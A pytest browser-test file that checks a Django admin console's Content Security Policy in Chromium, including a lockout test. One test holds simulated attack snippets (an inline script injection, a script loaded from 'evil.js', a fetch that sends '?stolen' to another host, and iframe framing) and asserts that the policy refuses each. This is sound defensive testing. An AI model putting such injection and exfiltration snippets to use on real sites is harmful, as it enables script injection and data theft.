"""The content policies in Chromium: what an operator does breaks none, and what a page must not do
is stopped.
"""

import re
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from neruba.models import Customer, Project, User
from tests import factories
from tests.isolation.walk import CONSOLE, addresses, filled, values_for
from tests.support.console import PASSWORD, invoice_row, superuser, world
from tests.support.test_browser import CHROMIUM, chromium

pytestmark = [
    pytest.mark.django_db(transaction=True),
    pytest.mark.once,
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM.exists(), reason=f"there is no Chromium at {CHROMIUM}"),
]

ADD_INLINE_SCRIPT = """() => {
    const script = document.createElement("script");
    script.text = "window.stolen = true";
    document.head.appendChild(script);
    return Boolean(window.stolen);
}"""
ADD_FOREIGN_SCRIPT = """() => new Promise(done => {
    const script = document.createElement("script");
    script.src = "http://127.0.0.1:1/evil.js";
    script.onerror = () => done("refused");
    document.head.appendChild(script);
})"""
SEND_ELSEWHERE = """() => fetch("http://127.0.0.1:1/?stolen").then(() => "sent", () => "refused")"""
FRAME = """address => new Promise(done => {
    const frame = document.createElement("iframe");
    frame.src = address;
    frame.onload = () => done(frame.contentDocument ? "shown" : "refused");
    document.body.appendChild(frame);
})"""


def test_an_operators_day_breaks_no_policy(live_server: Any) -> None:
    sandbox = world()
    superuser(PASSWORD)
    row = invoice_row(next(one for one in sandbox.invoices() if one["number"])["id"])
    customer = Customer.objects.get(external_id="acme")
    lists = ["billing_invoice", "ingest_usageevent", "neruba_auditrecord"]
    with chromium(live_server.url) as watched:
        page = watched.page
        watched.log_in()
        watched.visit(reverse("admin:index"))
        page.wait_for_selector("text=Owed to us")
        for name in lists:
            watched.visit(reverse(f"admin:{name}_changelist"))
            page.click("span:text-is('filter_list')")
            page.wait_for_selector("text=Apply Filters")
            page.click("text=Apply Filters")
            page.wait_for_load_state("networkidle")
        watched.visit(reverse("admin:neruba_customer_change", args=[customer.pk]))
        page.click("text=Change details")
        page.fill("#dialog input[name=name]", "Acme Ltd")
        page.fill("#dialog textarea[name=reason]", "their letter")
        page.click("#dialog button[type=submit]")
        page.wait_for_selector("text=Acme Ltd was changed.")
        watched.visit(reverse("admin:billing_invoice_change", args=[row.pk]))
        watched.visit(reverse("admin:billing_invoice_print", args=[row.pk]))
        page.evaluate("() => { window.print = () => { window.printed = true; } }")
        page.click("#print")
        printed = page.evaluate("() => window.printed")
        watched.visit(reverse("docs"))
        page.wait_for_selector("#swagger-ui .opblock-tag, #swagger-ui .opblock")
        page.click("#swagger-ui .opblock >> nth=0")
        page.wait_for_selector("#swagger-ui .opblock.is-open")
        watched.visit(reverse("admin:password_change"))
        errors, foreign = list(watched.errors), list(watched.foreign)
        missing = watched.visit("/nothing")
        styled = page.evaluate("() => getComputedStyle(document.body).display")
    assert printed is True
    assert (errors, foreign) == ([], [])
    assert "There is nothing here" in missing
    assert styled == "grid"
    # Chromium says of the page itself that it was a 404; nothing else is wrong with it.
    assert [error for error in watched.errors if not re.search(r"\b404\b", error)] == []


def pages_of(user: User, project: Project) -> list[str]:
    """Every address that answers the operator with a page: those of the console from what is
    registered, pointed at the project's rows, and the two beside it.
    """
    console = [one for one in addresses() if one.route.startswith(CONSOLE)]
    pointed = [(one, values_for(one, project)) for one in console if one.name != "logout"]
    paths = [filled(one, values) for one, values in pointed if values is not None]
    browser = Client()
    browser.force_login(user)
    answers = {path: browser.get(path) for path in [*paths, reverse("docs"), invite_of(project)]}
    return [path for path, answer in answers.items() if is_page(answer)]


def invite_of(project: Project) -> str:
    token = factories.invited(project=project, email="csp@op.example").token
    return reverse("invite", args=[token])


def is_page(answer: Any) -> bool:
    """With a head of its own, which a part of a page that a script asks for has not."""
    return answer.status_code == 200 and b"<head" in getattr(answer, "content", b"")


def test_no_page_that_is_registered_breaks_its_policy(live_server: Any) -> None:
    project = world().project
    pages = pages_of(superuser(PASSWORD), project)
    assert {reverse("docs"), reverse("admin:neruba_user_changelist")} < set(pages)
    assert len(pages) > 100
    broken: dict[str, list[str]] = {}
    with chromium(live_server.url) as watched:
        watched.log_in()
        for path in pages:
            before = len(watched.errors)
            watched.page.goto(live_server.url + path, wait_until="load")
            if watched.errors[before:]:
                broken[path] = watched.errors[before:]
        foreign = list(watched.foreign)
    assert (broken, foreign) == ({}, [])


def test_a_page_that_was_tampered_with_can_do_no_harm(live_server: Any) -> None:
    superuser(PASSWORD)
    with chromium(live_server.url) as watched:
        watched.log_in()
        page = watched.page
        ran = page.evaluate(ADD_INLINE_SCRIPT)
        did = [page.evaluate(script) for script in (ADD_FOREIGN_SCRIPT, SEND_ELSEWHERE)]
        framed = page.evaluate(FRAME, "/admin/")
    assert (ran, did, framed) == (False, ["refused", "refused"], "refused")
    broken = [error for error in watched.errors if "Content Security Policy" in error]
    directives = ("script-src", "connect-src", "frame")
    assert [any(name in error for error in broken) for name in directives] == [True] * 3


def test_who_is_locked_out_is_told_in_a_page_of_the_console(live_server: Any) -> None:
    superuser(PASSWORD)
    with chromium(live_server.url) as watched:
        for _ in range(5):
            watched.visit(reverse("admin:login"))
            watched.page.fill("#id_username", "root@example.com")
            watched.page.fill("#id_password", "wrong")
            watched.page.click("button[type=submit]")
            watched.page.wait_for_load_state("networkidle")
        text = watched.page.inner_text("body")
    assert "Try again in 15 minutes." in text
    assert watched.foreign == []
    assert [error for error in watched.errors if not re.search(r"\b429\b", error)] == []
